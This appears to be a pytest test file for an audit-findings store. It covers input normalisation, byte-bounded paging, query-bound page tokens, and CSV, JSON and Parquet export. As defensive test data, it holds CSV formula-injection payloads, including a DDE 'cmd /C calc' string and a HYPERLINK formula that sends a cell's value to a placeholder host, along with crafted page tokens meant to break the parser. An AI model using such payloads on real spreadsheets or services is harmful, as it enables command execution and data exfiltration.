"""The rules of stored findings, as plain functions: what a procedure may hand over, how a
page is bounded, what a page token is tied to; and the export encoders' files."""

from __future__ import annotations

import asyncio
import base64
import csv
import io
import json
from collections.abc import AsyncIterator

import pyarrow.parquet as pq
import pytest

from auditflow.errors import InvalidArgument
from auditflow.v1 import workflow_pb2 as pb
from gateway import export
from processor import findings_store
from processor.findings_store import MAX_ENTRY_IDS, MAX_EXPLANATION, MAX_PAGE_BYTES, Cursor, FindingRecord, Query


def test_a_finding_is_checked_and_bounded_before_it_is_stored() -> None:
    raw = {"severity": "high", "amount": "-1234.5", "entry_ids": list(range(MAX_ENTRY_IDS + 5)), "explanation": "x"}
    stored = findings_store.normalize(raw, 2, "dupes")
    assert (stored["step"], stored["procedure"], stored["severity"], stored["minus_cents"], stored["amount"]) == (
        2,
        "dupes",
        0,
        -123450,
        "-1234.5",
    )
    assert len(json.loads(stored["entry_ids"])) == MAX_ENTRY_IDS and stored["entry_count"] == MAX_ENTRY_IDS + 5
    long = findings_store.normalize({"severity": "low", "explanation": "y" * (MAX_EXPLANATION + 10)}, 1, "p")
    assert len(long["explanation"]) == MAX_EXPLANATION and long["explanation"].endswith("…")
    assert long["amount"] == "0" and long["entry_count"] == 0
    for bad, why in (
        ([], "JSON object"),
        ({"severity": "urgent"}, "severity"),
        ({"severity": "low", "amount": "ten"}, "decimal number"),
        ({"severity": "low", "amount": "NaN"}, "finite"),
        ({"severity": "low", "entry_ids": "JE-1"}, "list"),
    ):
        with pytest.raises(ValueError, match=why):
            findings_store.normalize(bad, 1, "p")


def record(number: int, ids: int = 1, explanation: str = "e") -> FindingRecord:
    return FindingRecord(number, 1, "p", 0, -number, "1.00", [f"{'J' * 190}-{i}" for i in range(ids)], ids, explanation)


def test_a_page_stays_under_its_byte_bound_and_always_holds_one() -> None:
    small = [record(n) for n in range(1, 12)]
    kept, more = findings_store.fitting(small, 10)
    assert [k.record.number for k in kept] == list(range(1, 11)) and more
    assert findings_store.fitting(small, 20)[1] is False
    big = [record(n, ids=MAX_ENTRY_IDS, explanation="z" * MAX_EXPLANATION) for n in range(1, 40)]
    kept, more = findings_store.fitting(big, 1000)
    assert 1 <= len(kept) < 39 and more
    assert sum(k.message.ByteSize() for k in kept) <= MAX_PAGE_BYTES
    assert findings_store.fitting([], 10) == ([], False)


def test_a_page_token_holds_only_for_its_filter_and_order() -> None:
    query = Query.of("wf-1", pb.FindingsFilter(severities=["low", "high"], steps=[3, 1]))
    assert query == Query.of("wf-1", pb.FindingsFilter(severities=["high", "low"], steps=[1, 3]))
    token = findings_store.token(query, Cursor((0, 500, 7), 99))
    assert findings_store.cursor_of(query, token) == Cursor((0, 500, 7), 99)
    for other in (
        Query.of("wf-2", pb.FindingsFilter(severities=["low", "high"], steps=[1, 3])),
        Query.of("wf-1", pb.FindingsFilter(severities=["high"], steps=[1, 3])),
        Query.of("wf-1", pb.FindingsFilter(severities=["low", "high"], steps=[1, 3], order="found")),
    ):
        with pytest.raises(InvalidArgument, match="page_token"):
            findings_store.cursor_of(other, token)
    for forged in ("", "!!", "bm90IGpzb24=", "eyJxIjogMX0="):
        with pytest.raises(InvalidArgument, match="page_token"):
            findings_store.cursor_of(query, forged)


def _b64(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).decode()


def test_a_tampered_page_token_is_an_invalid_argument_never_an_internal_error() -> None:
    query = Query.of("wf-1", pb.FindingsFilter())
    q = json.dumps(query.fingerprint())
    tampered = [
        _b64("[" * 700 + "]" * 700),  # nested as deep as a token's length allows
        _b64("[" * 100_000),  # past the parser's recursion
        _b64(f'{{"q": {q}, "k": [{10**30}, 1, 2], "t": 1}}'),  # past what the database compares
        _b64(f'{{"q": {q}, "k": [1, 2, 3], "t": {10**30}}}'),
        _b64(f'{{"q": {q}, "k": [1e400, 1, 2], "t": 1}}'),  # a float, infinite
        _b64(f'{{"q": {q}, "k": [true, 1, 2], "t": 1}}'),
        _b64(f'{{"q": {q}, "k": [{"9" * 5000}, 1, 2], "t": 1}}'),  # past int()'s digits
    ]
    for token in tampered:
        with pytest.raises(InvalidArgument, match="page_token"):
            findings_store.cursor_of(query, token)


@pytest.mark.parametrize(
    ("filter_", "field"),
    [
        (pb.FindingsFilter(steps=[0]), "filter.steps"),
        (pb.FindingsFilter(procedures=[""]), "filter.procedures"),
        (pb.FindingsFilter(severities=["HIGH"]), "filter.severities"),
        (pb.FindingsFilter(order="newest"), "filter.order"),
    ],
)
def test_a_filter_that_cannot_be_asked_names_its_field(filter_: pb.FindingsFilter, field: str) -> None:
    with pytest.raises(InvalidArgument) as caught:
        Query.of("wf-1", filter_)
    assert [v.field for v in caught.value.violations] == [field]


TRICKY = [
    pb.Finding(
        finding_id="f1",
        step=1,
        procedure="p",
        severity="high",
        entry_ids=["A,1", 'B"2'],
        entry_count=2,
        amount="-10.50",
        explanation='a "quoted", multi-line\nexplanation; ünïcode',
    ),
    pb.Finding(finding_id="f2", step=2, procedure="q", severity="low", entry_count=0, amount="0", explanation=""),
]


async def pages(*batches: list[pb.Finding]) -> AsyncIterator[list[pb.Finding]]:
    for batch in batches:
        yield batch


def file_of(name: str, *batches: list[pb.Finding]) -> bytes:
    async def collect() -> bytes:
        return b"".join([chunk async for chunk in export.encode(name, pages(*batches))])

    return asyncio.run(collect())


def test_each_export_format_round_trips_every_field() -> None:
    rows = list(csv.DictReader(io.StringIO(file_of("csv", TRICKY[:1], TRICKY[1:]).decode(), newline="")))
    assert [r["finding_id"] for r in rows] == ["f1", "f2"]
    assert rows[0]["explanation"] == TRICKY[0].explanation and rows[0]["entry_ids"] == 'A,1 B"2'
    listed = json.loads(file_of("json", TRICKY[:1], [], TRICKY[1:]))
    assert listed[0]["entry_ids"] == ["A,1", 'B"2'] and listed[1]["amount"] == "0"
    table = pq.read_table(io.BytesIO(file_of("parquet", TRICKY[:1], TRICKY[1:])))
    assert table.column("entry_ids").to_pylist() == [["A,1", 'B"2'], []]
    assert table.column("explanation").to_pylist()[0] == TRICKY[0].explanation


FORMULAS = pb.Finding(
    finding_id="\rf3",
    step=3,
    procedure="+cmd|' /C calc'!A0",
    severity="@SUM(1+1)",
    entry_ids=["-2+3"],
    entry_count=1,
    amount="\t=1+1",
    explanation='=HYPERLINK("http://x.example/?"&A1,"click")',
)


def test_a_csv_cell_a_spreadsheet_would_run_reads_back_as_text() -> None:
    rows = list(csv.DictReader(io.StringIO(file_of("csv", [FORMULAS, TRICKY[0]]).decode(), newline="")))
    for column in ("finding_id", "procedure", "severity", "amount", "entry_ids", "explanation"):
        original = " ".join(FORMULAS.entry_ids) if column == "entry_ids" else getattr(FORMULAS, column)
        assert rows[0][column] == "'" + original, column
    assert rows[1]["amount"] == "-10.50"  # a number is no formula
    assert json.loads(file_of("json", [FORMULAS]))[0]["explanation"] == FORMULAS.explanation


def test_an_export_of_nothing_is_a_valid_empty_file() -> None:
    assert file_of("csv").decode().strip() == ",".join(export.COLUMNS)
    assert json.loads(file_of("json")) == []
    assert pq.read_table(io.BytesIO(file_of("parquet"))).num_rows == 0
    with pytest.raises(InvalidArgument, match="format"):
        export.check_format("xlsx")
